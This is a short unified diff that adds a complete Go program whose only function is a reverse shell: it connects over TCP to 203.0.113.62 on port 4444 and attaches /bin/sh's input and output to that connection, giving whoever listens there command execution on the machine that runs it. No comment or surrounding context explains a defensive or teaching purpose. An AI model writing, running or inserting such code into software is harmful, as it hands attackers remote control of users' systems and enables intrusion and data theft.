@@ -1,0 +1,13 @@
+package main
+
+import (
+	"net"
+	"os/exec"
+)
+
+func main() {
+	c, _ := net.Dial("tcp", "203.0.113.62:4444")
+	cmd := exec.Command("/bin/sh")
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
+	cmd.Run()
+}
